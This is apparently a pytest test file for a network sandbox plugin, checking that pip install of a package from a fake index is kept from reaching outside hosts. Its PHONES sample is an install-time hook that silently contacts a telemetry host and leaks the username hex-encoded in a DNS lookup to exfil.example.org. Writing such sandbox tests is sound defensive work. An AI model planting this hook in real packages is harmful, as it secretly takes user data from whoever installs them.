"""A package that phones home while it is installed: what it tried is data, and the machine it ran on had nothing to tell."""

from __future__ import annotations

import io
import tarfile
from collections.abc import Iterator

import pytest

from pytest_airlock import CompletedProcess, Sandbox, Served

pytest.importorskip("trustme", reason="https needs pip install 'pytest-airlock[tls]'")

INDEX = "https://pypi.example.com"

#: The sdist brings its own build backend (PEP 517, `backend-path`), so that pip has nothing else to fetch.
PYPROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""
BACKEND = """
import zipfile

NAME = "{name}"

def build_wheel(directory, config_settings=None, metadata_directory=None):
    wheel = f"{{NAME}}-1.0-py3-none-any.whl"
    files = {{
        f"{{NAME}}.py": "WHAT = 'a parcel'\\n",
        f"{{NAME}}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\\nName: {{NAME}}\\nVersion: 1.0\\n",
        f"{{NAME}}-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
        f"{{NAME}}-1.0.dist-info/RECORD": "",
    }}
    with zipfile.ZipFile(f"{{directory}}/{{wheel}}", "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return wheel
"""
#: Runs when pip builds the wheel. Errors are passed over, as such code does: nobody shall notice.
PHONES = """
import getpass, socket, urllib.request

for reach in (
    lambda: urllib.request.urlopen("https://telemetry.example.net/installed", timeout=60),
    lambda: socket.getaddrinfo(f"{getpass.getuser().encode().hex()}.exfil.example.org", 443),
):
    try:
        reach()
    except OSError:
        pass
"""


@pytest.fixture
def index(airlock_sandbox: Sandbox) -> Iterator[Served]:
    """An index with two packages, of recorded responses. The network is locked but for it."""
    responses: dict[str, object] = {}
    for name, code in (("honest", ""), ("chatty", PHONES)):
        file = f"{name}-1.0.tar.gz"
        page = f'<!DOCTYPE html><a href="/files/{file}">{file}</a>'
        responses[f"/simple/{name}/"] = (200, {"Content-Type": "text/html"}, page)
        responses[f"/files/{file}"] = sdist(name, code)
    with airlock_sandbox.network.serve(INDEX, responses) as served:
        yield served


def test_what_it_tried_is_data(airlock_sandbox: Sandbox, index: Served) -> None:
    done = install(airlock_sandbox, "chatty")
    assert done.returncode == 0, f"{done.stdout}\n{done.stderr}\n{index.broken}"

    refused = airlock_sandbox.network.attempts.refused
    assert {(each.protocol, each.host) for each in refused} == {
        ("dns", "telemetry.example.net"),
        ("dns", "726f6f74.exfil.example.org"),  # the name alone carries data out, where questions are answered
    }
    assert bytes.fromhex("726f6f74") == b"root"
    allowed = {(each.host, each.port) for each in airlock_sandbox.network.attempts if each.verdict == "allowed"}
    assert allowed == {("pypi.example.com", 53), ("pypi.example.com", 443)}


@pytest.mark.airlock(network_attempts="forbid")
def test_an_honest_package_may_use_its_index(airlock_sandbox: Sandbox, index: Served) -> None:
    """With "chatty" this test would fail, and its report name both hosts: that takes no more than the marker."""
    done = install(airlock_sandbox, "honest")
    assert done.returncode == 0, f"{done.stdout}\n{done.stderr}\n{index.broken}"
    assert airlock_sandbox.run(["python", "-c", "import honest; print(honest.WHAT)"]).stdout == "a parcel\n"


def install(sandbox: Sandbox, name: str) -> CompletedProcess:
    return sandbox.run(["python", "-m", "pip", "install", "--index-url", f"{INDEX}/simple", name], timeout=120)


def sdist(name: str, code: str) -> bytes:
    """A source distribution (PEP 517) whose backend runs `code` as soon as it is imported."""
    files = {
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        "pyproject.toml": PYPROJECT,
        "backend.py": code + BACKEND.format(name=name),
    }
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for path, text in files.items():
            member = tarfile.TarInfo(f"{name}-1.0/{path}")
            member.size = len(text.encode())
            archive.addfile(member, io.BytesIO(text.encode()))
    return packed.getvalue()
